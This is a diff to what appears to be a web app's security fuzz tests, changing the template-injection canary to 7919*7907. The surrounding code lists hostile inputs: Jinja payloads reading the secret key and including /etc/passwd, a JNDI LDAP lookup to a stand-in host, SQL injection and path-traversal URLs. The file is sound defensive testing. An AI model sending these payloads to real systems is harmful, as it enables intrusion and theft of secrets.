@@ -79,12 +79,12 @@ WORDS = {
     "htmx out of band": '<p id="comments" hx-swap-oob="true">zebra</p>',
     "htmx partial": '<hx-partial hx-target="body">zebra</hx-partial>',
     "htmx extension": '<body hx-ext="zebra" hx-history="false">',
-    "Jinja expression": "zebra{{ 7 * 191 }}",
+    "Jinja expression": "zebra{{ 7919 * 7907 }}",
     "Jinja configuration": "zebra{{ config.SECRET_KEY }}{{ config.items() }}",
     "Jinja classes": "zebra{{ ''.__class__.__mro__[1].__subclasses__() }}",
     "Jinja statement": "zebra{% for x in range(9) %}{% include '/etc/passwd' %}{% endfor %}{# zebra #}",
     "Jinja globals": "zebra{{ url_for.__globals__['current_app'].config }}",
-    "other templates": "zebra${7*191} #{7*191} <%= 7*191 %> @(7*191) *{7*191}",
+    "other templates": "zebra${7919*7907} #{7919*7907} <%= 7919*7907 %> @(7919*7907) *{7919*7907}",
     "format string": "zebra{0.__class__} %s %(zebra)s %n %x {zebra!r}",
     "log format": "zebra ${jndi:ldap://zebra.example/a}",
     "SQL or": "zebra' OR '1'='1",
@@ -279,7 +279,7 @@ def holds(response: Any) -> None:
     assert response.headers["X-Content-Type-Options"] == "nosniff"
     if response.status_code // 100 == 3:
         assert re.match(r"/(?!/)", response.headers["Location"]), "led elsewhere"
-    assert "1337" not in response.text, "something was worked out"
+    assert "62615533" not in response.text, "something was worked out"
     assert "for tests only" not in response.text, "the secret is shown"
     assert "root:x:" not in response.text
     assert "Traceback" not in response.text
@@ -561,7 +561,7 @@ PATHS = [
     "/site.sqlite3", "/backups", "/data/article.md", "/app.py", "//zebra.example", "//zebra.example/%2f..", "/\\zebra.example",
     "/%2f%2fzebra.example", "/%5czebra.example", "/http://zebra.example", "/desk/", "/desk//", "/DESK", "/desk%2fmessages", "/desk;zebra",
     "/desk/.", "/%64esk/", "/desk/..%2f", "/desk/comments/0", "/desk/comments/-1", "/desk/comments/1e3", "/desk/comments/99999999999999999999",
-    "/desk/comments/٣", "/desk/comments/1/zebra", "/desk/comments/1%00", "/faq/zebra", "/faq/%00", "/faq/..%2f..%2fdata", "/faq/{{7*191}}",
+    "/desk/comments/٣", "/desk/comments/1/zebra", "/desk/comments/1%00", "/faq/zebra", "/faq/%00", "/faq/..%2f..%2fdata", "/faq/{{7919*7907}}",
     "/faq/<script>zebra", "/faq/%0d%0aSet-Cookie:zebra=1", "/comments/mine/zebra", "/comments/mine/%00", "/comments/mine/" + "a" * 5000,
     "/comments/mine/../../desk", "/contact/sent/zebra", "/contact/sent/%27%20OR%201=1", "/contact/sent/%f0%9f%98%80", "/contact/sent/%ff%fe",
     "/" + "zebra/" * 500, "/%", "/%zz", "/%u002e", "/zebra%e2%80%ae", "/console", "/server-status", "/wp-login.php", "/xmlrpc.php",
